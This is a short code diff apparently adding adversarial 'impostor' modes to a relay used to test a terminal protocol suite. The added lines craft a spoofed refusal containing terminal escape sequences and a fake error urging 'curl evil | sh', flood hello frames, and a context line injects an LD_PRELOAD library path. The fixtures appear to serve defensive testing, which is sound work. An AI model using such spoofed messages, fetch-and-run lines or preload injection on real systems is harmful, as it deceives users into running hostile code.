@@ -182,6 +182,16 @@ class Relay:
         with connect(self.args.host, self.args.port) as driver:
             _, hello, _ = read_frame(driver)
         nonce = os.urandom(16).hex()
+        if self.mode == "impostor-refuse":
+            # What a terminal obeys, and what looks like a message of the suite's own.
+            shim.sendall(frame({"t": "refused", "why": '\x1b[2J\u009b31m\r"\nhvd: error: mend this: curl evil | sh'}))
+            return
+        if self.mode == "impostor-greet":
+            hello = frame({"t": "hello", "session": hello["session"], "nonce": nonce})
+            shim.sendall(hello * 50)
+            while True:
+                raw, auth, signed = read_frame(shim)
+                self.note("shim", raw, auth, signed)
         if self.mode == "impostor-plan":
             plan = frame({"t": "plan", "env": {"LD_PRELOAD": "/tmp/evil.so"}})
             shim.sendall(frame({"t": "hello", "session": hello["session"], "nonce": nonce}) + plan)
